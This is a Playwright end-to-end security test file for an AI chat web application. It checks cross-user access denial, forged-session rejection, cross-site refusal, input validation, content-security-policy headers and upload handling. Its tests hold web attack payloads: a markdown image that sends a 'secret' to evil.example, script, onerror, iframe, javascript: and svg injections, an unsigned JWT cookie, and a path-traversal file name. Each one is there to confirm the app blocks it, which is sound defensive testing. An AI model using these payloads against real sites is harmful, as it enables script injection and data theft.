/** As an attacker would. */
import { randomUUID } from "node:crypto"
import { expect, test } from "./support/fixtures"
import { redCircle } from "./support/pictures"

test("nothing of somebody else can be read, changed, stopped or shared", async ({ chat, browser }) => {
  const { page, app } = chat
  const upload = await page.request.post(`${app.url}/api/images`, {
    multipart: { file: { name: "a.png", mimeType: "image/png", buffer: await redCircle() } },
  })
  const { images } = await upload.json()
  await chat.ask("[[words n=2000 rate=100]]")
  await expect(chat.answer()).toContainText("w5")
  const id = chat.conversationId()
  const share = await (await page.request.post(`${app.url}/api/conversations/${id}/shares`)).json()

  const stranger = await browser.newContext()
  const other = await stranger.newPage()
  await other.goto(app.url)
  const { request } = other
  const gone = async (status: Promise<{ status(): number }>) => expect((await status).status()).toBe(404)
  await gone(request.get(`${app.url}/api/conversations/${id}`))
  await gone(request.get(`${app.url}/api/conversations/${id}/messages`))
  await gone(request.patch(`${app.url}/api/conversations/${id}`, { data: { title: "mine" } }))
  await gone(request.delete(`${app.url}/api/conversations/${id}`))
  await gone(request.get(`${app.url}/api/chat/${id}/stream`))
  await gone(request.post(`${app.url}/api/chat/${id}/stop`))
  await gone(request.post(`${app.url}/api/conversations/${id}/shares`))
  await gone(request.delete(`${app.url}/api/shares/${share.share.id}`))
  await gone(request.get(`${app.url}${images[0].url}`))
  await gone(request.get(`${app.url}${images[0].url}?share=${share.share.path.split("/").at(-1)}`))
  await gone(
    request.post(`${app.url}/api/chat`, {
      data: { id, message: { id: randomUUID(), parts: [{ type: "text", text: "hi" }] } },
    }),
  )
  await gone(
    request.post(`${app.url}/api/chat`, {
      data: {
        id: randomUUID(),
        message: { id: randomUUID(), parts: [{ type: "file", url: images[0].url, mediaType: "image/png" }] },
      },
    }),
  )
  await gone(request.get(`${app.url}/c/${id}`))
  const folder = randomUUID()
  await page.request.post(`${app.url}/api/folders`, { data: { id: folder, name: "Mine" } })
  await gone(request.post(`${app.url}/api/folders`, { data: { id: folder, name: "Theirs" } }))
  await gone(request.patch(`${app.url}/api/folders/${folder}`, { data: { name: "Theirs" } }))
  await gone(request.delete(`${app.url}/api/folders/${folder}`))
  await gone(request.patch(`${app.url}/api/conversations`, { data: { ids: [id], deleted: true } }))
  await gone(request.patch(`${app.url}/api/conversations/${id}`, { data: { tags: { add: ["theirs"] } } }))
  await stranger.close()
  await expect(chat.answer()).toHaveAttribute("data-status", "streaming")
  await chat.stop.click()
  await chat.ended("stopped")
})

test("without a session the API says so, and a forged one is none", async ({ app, playwright }) => {
  const anonymous = await playwright.request.newContext()
  expect((await anonymous.get(`${app.url}/api/conversations`)).status()).toBe(401)
  const forged = await playwright.request.newContext({
    extraHTTPHeaders: { cookie: "next-auth.session-token=eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0." },
  })
  expect((await forged.get(`${app.url}/api/conversations`)).status()).toBe(401)
  await anonymous.dispose()
  await forged.dispose()
})

test("a change asked for by another site is refused", async ({ chat }) => {
  const { page, app } = chat
  const attempt = (headers: Record<string, string>) =>
    page.request.post(`${app.url}/api/chat/${randomUUID()}/stop`, { headers })
  expect((await attempt({ origin: "https://evil.example" })).status()).toBe(403)
  expect((await attempt({ "sec-fetch-site": "cross-site" })).status()).toBe(403)
  expect((await attempt({ origin: app.url })).status()).toBe(404)
})

test("bodies of every wrong shape get a clear error", async ({ chat }) => {
  const { page, app } = chat
  const post = async (data: string) => {
    const response = await page.request.post(`${app.url}/api/chat`, {
      data,
      headers: { "content-type": "application/json" },
    })
    const { error } = await response.json()
    expect(error.message).toMatch(/^[A-Z].*\.$/)
    expect(JSON.stringify(error)).not.toMatch(/\bat \/|node_modules/)
    return response.status()
  }
  for (const body of ["", "null", "[]", "{", '{"id":7}', '{"id":"x","message":{}}', '{"__proto__":{}}', "\u0000"])
    expect(await post(body)).toBe(400)
  expect(await post(JSON.stringify({ id: "x".repeat(6_000_000) }))).toBe(413)
})

test("every page carries a strict policy, and breaks none of it", async ({ page, app }) => {
  const violations: string[] = []
  page.on(
    "console",
    (message) => /content security policy|refused to/i.test(message.text()) && violations.push(message.text()),
  )
  const response = await page.goto(app.url)
  const policy = response?.headers()["content-security-policy"] ?? ""
  expect(policy).toMatch(/script-src 'self' 'nonce-[^']{20,}' 'strict-dynamic'/)
  expect(policy).not.toMatch(/script-src[^;]*unsafe/)
  expect(policy).toContain("connect-src 'self'")
  expect(response?.headers()["x-content-type-options"]).toBe("nosniff")
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("Write python code for primes and a table")
  await page.keyboard.press("Enter")
  await expect(page.locator('article[data-role="assistant"]')).toHaveAttribute("data-status", "complete")
  expect(violations).toEqual([])
})

test("files of the build come compressed by Brotli, for good, and as what they are", async ({ page, app }) => {
  await page.goto(app.url)
  const script = await page.locator("script[src*='/_next/static/']").first().getAttribute("src")
  const response = await fetch(new URL(script ?? "", app.url), { headers: { "accept-encoding": "br" } })
  expect(Object.fromEntries(response.headers)).toMatchObject({
    "content-encoding": "br",
    "cache-control": "public,max-age=31536000,immutable",
    "content-type": "text/javascript",
    "x-content-type-options": "nosniff",
  })
  expect((await response.text()).length).toBeGreaterThan(0)
})

test("what a model writes is never run, loaded or followed by itself", async ({ chat }) => {
  const { page } = chat
  const outside: string[] = []
  page.on("request", (request) => {
    if (new URL(request.url()).hostname === "evil.example") outside.push(request.url())
  })
  const dialogs: string[] = []
  page.on("dialog", async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  const attack = [
    "[[echo]]",
    "![leak](https://evil.example/?q=secret)",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "<script>alert(2)</script>",
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="javascript:alert(3)">click</a> [link](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>)',
    '<svg onload="alert(6)"></svg><style>body{display:none}</style>',
    "[good](https://good.example/)",
  ].join("\n\n")
  const check = async () => {
    const answer = chat.answer()
    await expect(answer.getByRole("link", { name: "good" })).toHaveAttribute(
      "rel",
      /noopener.*noreferrer|noreferrer.*noopener/,
    )
    expect(
      await answer
        .locator("script, iframe, style, [onerror], [onload], [href^='javascript:'], [href^='data:']")
        .count(),
    ).toBe(0)
    expect(await answer.locator("img[src*='evil']").count()).toBe(0)
  }
  await chat.askAndWait(attack)
  await check()
  await page.reload()
  await check()
  expect(outside).toEqual([])
  expect(dialogs).toEqual([])
})

test("an upload is what its bytes are, whatever it is called", async ({ chat }) => {
  const { page, app } = chat
  const upload = (name: string, mimeType: string, buffer: Buffer) =>
    page.request.post(`${app.url}/api/images`, { multipart: { file: { name, mimeType, buffer } } })
  const svg = await upload(
    "a.png",
    "image/png",
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  )
  expect(svg.status()).toBe(415)
  const { images } = await (await upload("../../etc/evil.html", "text/html", await redCircle())).json()
  const served = await page.request.get(`${app.url}${images[0].url}`)
  expect(served.headers()["content-type"]).toBe("image/png")
  expect(served.headers()["x-content-type-options"]).toBe("nosniff")
  expect(served.headers()["content-security-policy"]).toContain("sandbox")
  expect(images[0].name).toBe("evil.html")
})
